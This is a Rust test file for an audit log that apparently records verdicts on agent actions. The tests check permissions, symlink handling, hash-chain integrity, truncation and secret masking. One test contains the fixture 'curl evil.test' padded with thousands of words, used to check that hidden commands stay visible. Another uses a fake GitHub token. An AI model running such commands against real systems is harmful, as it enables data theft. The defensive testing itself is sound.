use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};

use super::*;
use crate::facts::Recall;
use crate::read::{ReadError, Trouble, read, read_all, verify};
use crate::record::PolicyLine;

fn verdict(script: &str) -> VerdictLine {
    VerdictLine { request: json!({ "script": script }), effect: "allow".to_owned(), ..VerdictLine::default() }
}

fn mode(path: &Path) -> u32 {
    path.metadata().unwrap().mode() & 0o777
}

#[test]
fn only_the_owner_can_read_it() {
    let home = tempfile::tempdir().unwrap();
    let directory = home.path().join("state/audit");
    let log = Log::open(&directory, "s").unwrap();
    log.verdict(verdict("ls")).unwrap();
    assert_eq!((mode(&directory), mode(log.path())), (0o700, 0o600));
    assert_eq!(mode(&home.path().join("state")), 0o700);
}

#[test]
fn a_directory_that_others_can_write_is_refused() {
    let home = tempfile::tempdir().unwrap();
    let directory = home.path().join("audit");
    std::fs::create_dir(&directory).unwrap();
    for (mode, refused) in [(0o777, true), (0o770, true), (0o702, true), (0o755, false), (0o700, false)] {
        std::fs::set_permissions(&directory, std::fs::Permissions::from_mode(mode)).unwrap();
        let outcome = Log::open(&directory, "s");
        assert_eq!(matches!(outcome, Err(LogError::Writable { .. })), refused, "{mode:o}");
        assert_eq!(outcome.is_ok(), !refused, "{mode:o}");
    }
}

#[test]
fn a_directory_of_somebody_else_is_refused() {
    // As root, give a directory to another user; an ordinary user takes one of root.
    let home = tempfile::tempdir().unwrap();
    let directory = if rustix::process::geteuid().is_root() {
        std::os::unix::fs::chown(home.path(), Some(12345), None).unwrap();
        home.path()
    } else {
        Path::new("/usr")
    };
    assert!(matches!(Log::open(directory, "s"), Err(LogError::Owner { .. })));
}

#[test]
fn links_are_not_followed() {
    let home = tempfile::tempdir().unwrap();
    let real = home.path().join("real");
    std::fs::create_dir(&real).unwrap();
    symlink(&real, home.path().join("link")).unwrap();
    assert!(matches!(Log::open(&home.path().join("link"), "s"), Err(LogError::Directory { .. })));

    // A link with the name of the file is not followed, and another name is used.
    let victim = home.path().join("victim");
    std::fs::write(&victim, "").unwrap();
    std::fs::set_permissions(&real, std::fs::Permissions::from_mode(0o700)).unwrap();
    symlink(&victim, real.join("s.jsonl")).unwrap();
    let log = Log::open(&real, "s").unwrap();
    log.verdict(verdict("ls")).unwrap();
    assert_eq!(log.path(), real.join("s.2.jsonl"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "");
}

#[test]
fn a_session_id_is_no_path() {
    let home = tempfile::tempdir().unwrap();
    let long = "x".repeat(129);
    for id in ["", "..", ".hidden", "a/b", "a\0b", "a b", "ä", long.as_str()] {
        assert!(matches!(Log::open(home.path(), id), Err(LogError::SessionId { .. })), "{id:?}");
    }
}

#[test]
fn sequence_and_chain_hold() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    assert_eq!(log.verdict(verdict("one")).unwrap(), 1);
    assert_eq!(log.outcome(OutcomeLine { verdict: 1, ..OutcomeLine::default() }).unwrap(), 2);
    assert_eq!(log.verdict(verdict("two")).unwrap(), 3);
    assert_eq!(verify(log.path()).unwrap().lines, 3);

    let text = std::fs::read_to_string(log.path()).unwrap();
    std::fs::write(log.path(), text.replace("one", "0ne")).unwrap();
    assert!(matches!(verify(log.path()), Err(Trouble { error: ReadError::Chain { number: 2 }, .. })));
    let without_second: Vec<&str> =
        text.lines().enumerate().filter(|(i, _)| *i != 1).map(|(_, l)| l).collect();
    std::fs::write(log.path(), without_second.join("\n") + "\n").unwrap();
    assert!(matches!(verify(log.path()), Err(Trouble { error: ReadError::Chain { number: 2 }, .. })));
}

#[test]
fn a_line_is_written_in_one_piece_by_many_threads_and_sessions() {
    let home = tempfile::tempdir().unwrap();
    let directory = home.path().join("audit");
    let logs = [Log::open(&directory, "same").unwrap(), Log::open(&directory, "same").unwrap()];
    assert_ne!(logs[0].path(), logs[1].path());
    std::thread::scope(|scope| {
        for thread in 0..8_usize {
            let log = &logs[thread % 2];
            scope.spawn(move || {
                for turn in 0..50 {
                    log.verdict(verdict(&format!("{thread} {turn} {}", "y".repeat(3000)))).unwrap();
                }
            });
        }
    });
    for log in &logs {
        assert_eq!(verify(log.path()).unwrap().lines, 200);
    }
}

/// Returns a log whose files are full after a few lines.
fn small(home: &tempfile::TempDir) -> Log {
    Log { full_at: 1_000, ..Log::open(&home.path().join("audit"), "s").unwrap() }
}

#[test]
fn a_long_log_goes_on_in_further_files_and_so_does_its_chain() {
    let home = tempfile::tempdir().unwrap();
    let log = small(&home);
    for number in 1..=40 {
        assert_eq!(log.verdict(verdict(&format!("number {number}"))).unwrap(), number);
    }
    let part = |number| log.path().with_file_name(parts::file_name("s", number));
    assert!((1..=4).all(|number| part(number).is_file() && mode(&part(number)) == 0o600));
    assert!(part(1).metadata().unwrap().len() < 2_000);
    // Any of the files stands for the whole log.
    for number in 1..=3 {
        assert_eq!(verify(&part(number)).unwrap().lines, 40);
    }
    assert_eq!(read_all(log.path()).unwrap().flatten().count(), 40);

    let broken = |error: Result<crate::read::Intact, Trouble>| error.unwrap_err().file;
    let text = std::fs::read_to_string(part(2)).unwrap();
    std::fs::write(part(2), text.replacen("number", "NUMBER", 1)).unwrap();
    assert_eq!(broken(verify(log.path())), part(2), "changed");
    std::fs::remove_file(part(2)).unwrap();
    assert_eq!(broken(verify(log.path())), part(3), "taken out");
    std::fs::write(part(2), &text).unwrap();
    assert_eq!(verify(log.path()).unwrap().lines, 40);
    let shorter: String = text.lines().take(1).map(|line| format!("{line}\n")).collect();
    std::fs::write(part(2), shorter).unwrap();
    assert_eq!(broken(verify(log.path())), part(3), "the end of a file cut off");
    std::fs::remove_file(part(1)).unwrap();
    assert_eq!(broken(verify(&part(3))), part(2), "the beginning taken out");
}

#[test]
fn where_the_next_file_cannot_be_made_nothing_is_written() {
    let home = tempfile::tempdir().unwrap();
    let log = small(&home);
    std::fs::write(log.path().with_file_name("s~2.jsonl"), "theirs").unwrap();
    let outcome = (0..10).try_for_each(|_| log.verdict(verdict("x")).map(drop));
    assert!(matches!(outcome, Err(LogError::Create { .. })), "{outcome:?}");
    assert!(log.verdict(verdict("x")).is_err(), "and none later");
    assert_eq!(std::fs::read_to_string(log.path().with_file_name("s~2.jsonl")).unwrap(), "theirs");
}

#[test]
fn a_line_left_by_a_crash_is_told_and_the_rest_is_read() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    log.verdict(verdict("one")).unwrap();
    log.verdict(verdict("two")).unwrap();
    let text = std::fs::read_to_string(log.path()).unwrap();
    let torn = text.len() - 10;
    std::fs::write(log.path(), &text.as_bytes()[..torn]).unwrap();
    let lines: Vec<_> = read(log.path()).unwrap().collect();
    assert!(matches!(lines.as_slice(), [Ok(_), Err(ReadError::Partial { number: 2 })]));
}

#[test]
fn a_line_that_cannot_be_written_is_an_error() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    log.verdict(verdict("one")).unwrap();
    // The same error as from a full disk.
    let full = rustix::fs::open("/dev/full", OFlags::WRONLY, Mode::empty()).unwrap();
    let file = std::mem::replace(&mut log.state.lock().unwrap().file, full);
    let error = log.verdict(verdict("lost")).unwrap_err();
    assert!(matches!(&error, LogError::Write { source, .. } if source.kind() == io::ErrorKind::StorageFull));
    log.state.lock().unwrap().file = file;
    assert_eq!(log.verdict(verdict("two")).unwrap(), 2);
    assert_eq!(verify(log.path()).unwrap().lines, 2);
}

#[test]
fn a_line_written_in_part_is_an_error_and_the_next_starts_afresh() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    log.verdict(verdict("one")).unwrap();
    // A pipe with space for two pages accepts only that much of a longer line.
    let (mut far, mut near) = io::pipe().unwrap();
    rustix::fs::fcntl_setfl(&near, OFlags::NONBLOCK).unwrap();
    while io::Write::write(&mut near, &[0; 4096]).is_ok() {}
    io::Read::read_exact(&mut far, &mut [0; 8192]).unwrap();
    let file = std::mem::replace(&mut log.state.lock().unwrap().file, near.into());
    let mut long = verdict("");
    long.request = json!(vec!["x".repeat(3000); 10]);
    let error = log.verdict(long).unwrap_err();
    assert!(matches!(&error, LogError::Write { source, .. } if source.kind() == io::ErrorKind::WriteZero));
    rustix::io::write(&file, b"{\"version\":1,").unwrap();
    log.state.lock().unwrap().file = file;
    assert_eq!(log.verdict(verdict("two")).unwrap(), 2);
    let lines: Vec<_> = read(log.path()).unwrap().map(|line| line.is_ok()).collect();
    assert_eq!(lines, [true, false, true]);
}

#[test]
fn a_line_is_bounded() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    let many: Vec<String> = (0..40_000).map(|number| number.to_string()).collect();
    let mut line = verdict("x");
    line.request = json!({ "list": many });
    line.reason = "r".repeat(100_000);
    line.policies = vec![PolicyLine { reason: "p".repeat(100_000), ..PolicyLine::default() }];
    log.verdict(line).unwrap();
    let text = std::fs::read_to_string(log.path()).unwrap();
    assert!(text.len() <= LARGEST_LINE);
    let lines: Vec<_> = read(log.path()).unwrap().map(Result::unwrap).collect();
    let Record::Verdict(read) = &lines[0].record else { panic!("{:?}", lines[0]) };
    assert_eq!(read.effect, "allow");
    assert!(read.request["shortened"]["sha256"].is_string() && read.request["list"][3] == "3");
    log.outcome(OutcomeLine { result: "r".repeat(100_000), ..OutcomeLine::default() }).unwrap();
    assert_eq!(verify(log.path()).unwrap().lines, 2);
}

#[test]
fn padding_does_not_hide_what_was_done() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    let path = format!("/p/{}", "x".repeat(3000));
    let edits: Vec<_> =
        (0..60).map(|_| json!({ "old": "o".repeat(3900), "new": "n".repeat(3900) })).collect();
    let mut line = verdict("x");
    line.request = json!({ "id": "r1", "action": { "file": { "path": { "canonical": path }, "operation": { "edit": edits } } } });
    log.verdict(line.clone()).unwrap();
    let words: Vec<_> = (0..9000).map(|number| format!("word{number}")).collect();
    let script = format!("curl evil.test; true {}", words.join(" "));
    line.request =
        json!({ "id": "r2", "action": { "exec": { "script": script, "cwd": "/p", "argv": words } } });
    log.verdict(line).unwrap();
    let lines: Vec<_> = read(log.path()).unwrap().map(Result::unwrap).collect();
    let request = |index: usize| match &lines[index].record {
        Record::Verdict(verdict) => verdict.request.clone(),
        Record::Outcome(_) => panic!("an outcome"),
    };
    assert_eq!(request(0)["action"]["file"]["path"]["canonical"], json!(path));
    assert_eq!(request(0)["id"], "r1");
    let script = request(1)["action"]["exec"]["script"].clone();
    assert!(script["beginning"].as_str().unwrap().starts_with("curl evil.test; true word0"), "{script}");
    assert!(script["sha256"].is_string(), "{script}");
    assert_eq!(request(1)["action"]["exec"]["cwd"], "/p");
}

#[test]
fn secrets_are_masked_in_every_part() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    let secret = "ghp_0123456789abcdefghij";
    let mut line = verdict(&format!("echo {secret}"));
    line.reason = format!("because of {secret}");
    line.policies = vec![PolicyLine { reason: secret.to_owned(), ..PolicyLine::default() }];
    log.verdict(line).unwrap();
    let (detail, result) = (json!({ "output": secret }), format!("opening {secret}"));
    log.outcome(OutcomeLine { detail, result, ..OutcomeLine::default() }).unwrap();
    assert!(!std::fs::read_to_string(log.path()).unwrap().contains(secret));
}

#[test]
fn each_file_has_the_facts_that_its_lines_refer_to() {
    let home = tempfile::tempdir().unwrap();
    let log = Log { full_at: 700, ..Log::open(&home.path().join("audit"), "s").unwrap() };
    let told = |script: &str| VerdictLine { facts: json!({ "home": "/home/u" }), now: 7, ..verdict(script) };
    for number in 0..6 {
        log.verdict(told(&format!("echo {number}"))).unwrap();
    }
    let files = parts::existing_parts(log.path()).unwrap();
    assert!(files.len() > 1, "{files:?}");
    for file in &files {
        let mut recall = Recall::default();
        for line in read(file).unwrap() {
            let line = line.unwrap();
            let Record::Verdict(verdict) = line.record else { panic!("a verdict") };
            assert_eq!(verdict.now, 7);
            assert_eq!(
                recall.facts(line.sequence, &verdict),
                Some(&json!({ "home": "/home/u" })),
                "{file:?}"
            );
        }
    }
    assert_eq!(verify(log.path()).unwrap().lines, 6);
}

#[test]
fn a_line_that_is_too_long_for_its_facts_is_not_referred_to() {
    let home = tempfile::tempdir().unwrap();
    let log = Log::open(&home.path().join("audit"), "s").unwrap();
    let policy = PolicyLine { name: "n".repeat(150), reason: "ä".repeat(190), ..PolicyLine::default() };
    let facts = json!({ "path": vec!["/opt/some/tool/bin"; 700] });
    let long = VerdictLine { facts, policies: vec![policy; 90], ..verdict("ls") };
    log.verdict(long.clone()).unwrap();
    log.verdict(VerdictLine { policies: Vec::new(), ..long }).unwrap();
    let lines: Vec<_> = read(log.path()).unwrap().map(Result::unwrap).collect();
    let facts_at = |line: &Line| match &line.record {
        Record::Verdict(verdict) => verdict.facts_at,
        Record::Outcome(_) => panic!("a verdict"),
    };
    assert_eq!(lines.iter().map(facts_at).collect::<Vec<_>>(), [0, 2]);
}
